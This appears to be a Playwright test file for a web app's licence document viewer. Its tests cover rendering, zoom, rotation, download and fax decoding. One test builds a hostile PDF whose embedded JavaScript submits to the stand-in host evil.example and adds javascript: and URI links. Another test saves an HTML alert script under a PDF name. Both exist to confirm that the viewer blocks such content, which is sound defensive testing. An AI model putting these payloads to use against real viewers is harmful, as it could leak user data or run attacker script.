import { readFileSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import type { Locator, Page } from '@playwright/test'
import sharp from 'sharp'
import { signIn } from './support/accounts.ts'
import { drawPdf } from './support/documents.ts'
import { expect, test } from './support/test.ts'
import type { Messages } from './support/translations.ts'

// The status page of a pending business shows its own licence.
test.use({ role: 'pending' })

interface LicenceFile {
  readonly path: string
  readonly original: Buffer
}

/** The stored licence of the business; a test may put other bytes in its place. */
async function findLicence({ url, folder }: { readonly url: string; readonly folder: string }): Promise<LicenceFile> {
  const { accessToken, user } = await signIn(url, 'pending')
  const answer = await fetch(`${url}/api/v1/service-provider/profile/get-profile/${user._id}`, {
    headers: { authorization: `Bearer ${accessToken}` },
  })
  const { fileKey } = (await answer.json()).data.businessLicense
  const file = path.join(folder, 'documents', fileKey)
  return { path: file, original: readFileSync(file) }
}

let licence: LicenceFile
test.beforeEach(async ({ server }) => {
  licence = await findLicence(server)
})
test.afterEach(() => writeFileSync(licence.path, licence.original))

async function view(page: Page, { documentViewer: t, profile }: Messages): Promise<Locator> {
  await page.goto('/service-provider/dashboard')
  await page.getByText(profile('status.received'), { exact: true }).click()
  await page.getByRole('button', { name: t('view') }).click()
  return page.getByRole('region', { name: t('title') })
}

/** The share of dark pixels of the drawn page. */
const darkness = (canvas: Locator): Promise<number> =>
  canvas.evaluate((element) => {
    if (!(element instanceof HTMLCanvasElement)) throw new Error('not a canvas')
    const { data } = element.getContext('2d')?.getImageData(0, 0, element.width, element.height) ?? { data: [] }
    let dark = 0
    for (let index = 0; index < data.length; index += 4)
      if ((data[index] ?? 0) + (data[index + 1] ?? 0) + (data[index + 2] ?? 0) < 200) dark++
    return dark / (data.length / 4)
  })

const measureWidth = async (element: Locator) => (await element.boundingBox())?.width ?? 0

test.describe('in Arabic', () => {
  test.use({ language: 'ar' })

  test('a PDF is drawn, zoomed, rotated and saved under the server’s policy', { tag: '@main' }, async ({ page, words }) => {
    const { documentViewer: t } = words
    const region = await view(page, words)
    const canvas = region.locator('canvas')
    await expect(canvas).toBeVisible()
    await expect(region.getByRole('img', { name: t('page', { page: 1, total: 1 }) })).toBeVisible()
    await expect(region.getByText('Commercial licence')).toBeAttached()
    expect(await darkness(canvas)).toBeGreaterThan(0.001)
    const fitting = await measureWidth(canvas)
    await page.getByRole('button', { name: t('zoomIn') }).click()
    await expect.poll(() => measureWidth(canvas)).toBeGreaterThan(1.2 * fitting)
    await page.getByRole('button', { name: t('fit') }).click()
    await page.getByRole('button', { name: t('rotate') }).click()
    await expect.poll(async () => ((await canvas.boundingBox())?.height ?? 0) > fitting).toBe(true)
    const download = page.waitForEvent('download')
    await page.getByRole('button', { name: words.common('download') }).click()
    expect((await download).suggestedFilename()).toBe('business-license.pdf')
    expect(readFileSync(await (await download).path())).toEqual(licence.original)
  })

  test('a PNG is shown as a picture', async ({ page, words }) => {
    const png = await sharp({ create: { width: 80, height: 40, channels: 3, background: '#0a7' } })
      .png()
      .toBuffer()
    await page.route('**/files/documents/**', (route) => route.fulfill({ contentType: 'image/png', body: png }))
    const region = await view(page, words)
    const picture = region.getByRole('img', { name: words.documentViewer('title') })
    await expect(picture).toBeVisible()
    expect(await measureWidth(picture)).toBe(80)
  })
})

/** One page that a fax picture covers with black. */
const faxPdf = () => {
  const fax = Buffer.from([0xff, 0xff, 0x00, 0x10, 0x01])
  const [head, tail] = drawPdf('').toString('latin1').split('<< /Length 31 >>\nstream\nBT /F1 24 Tf 72 720 Td () Tj ET\nendstream')
  if (head === undefined || tail === undefined) throw new Error('another page than expected')
  const inline = `q 595 0 0 842 0 0 cm BI /W 16 /H 16 /BPC 1 /CS /G /D [1 0] /F /CCF /DP << /K -1 /Columns 16 /Rows 16 >> ID `
  const content = `${inline}${fax.toString('latin1')} EI Q`
  return Buffer.from(`${head}<< /Length ${content.length} >>\nstream\n${content}\nendstream${tail}`, 'latin1')
}

test('a faxed page is drawn by the decoder of this server', async ({ page, words }) => {
  writeFileSync(licence.path, faxPdf())
  const canvas = (await view(page, words)).locator('canvas')
  await expect(canvas).toBeVisible()
  expect(await darkness(canvas)).toBeGreaterThan(0.9)
})

test('a PDF with scripts and links shows its page and does nothing else', { tag: '@main' }, async ({ page, words, server }) => {
  const active = drawPdf('Harmless')
    .toString('latin1')
    .replace(
      '/Catalog /Pages',
      '/Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\);this.submitForm\\("https://evil.example"\\)) >> /Pages',
    )
    .replace(
      '/Contents 4 0 R',
      '/Contents 4 0 R /AA << /O << /S /URI /URI (https://evil.example) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]',
    )
  writeFileSync(licence.path, Buffer.from(active, 'latin1'))
  const unexpected: string[] = []
  page.on('dialog', (dialog) => unexpected.push(dialog.message()))
  page.on('popup', (popup) => unexpected.push(popup.url()))
  page.on('request', (request) => {
    if (!request.url().startsWith(server.url) && !request.url().startsWith('blob:')) unexpected.push(request.url())
  })
  const region = await view(page, words)
  await expect(region.locator('canvas')).toBeVisible()
  await expect(region.getByText('Harmless')).toBeAttached()
  await region.locator('canvas').click()
  expect(await region.locator('a, iframe, object, embed, script, form, input').count()).toBe(0)
  expect(unexpected).toEqual([])
})

test('a page that is called a PDF is not opened', async ({ page, words }) => {
  writeFileSync(licence.path, '<!doctype html><script>alert(1)</script>')
  const { documentViewer: t } = words
  await view(page, words)
  await expect(page.getByText(t('failures.wrongType.title'))).toBeVisible()
})

test('a link that has expired is replaced by a new one', async ({ page, words, problems }) => {
  let opened = 0
  await page.route('**/files/documents/**', (route) => {
    opened += 1
    const expired = `${route.request().url()}0`
    return opened === 1 ? route.continue({ url: expired }) : route.continue()
  })
  await expect((await view(page, words)).locator('canvas')).toBeVisible()
  expect(opened).toBe(2)
  problems.splice(0, problems.length, ...problems.filter((problem) => !problem.includes('404')))
})
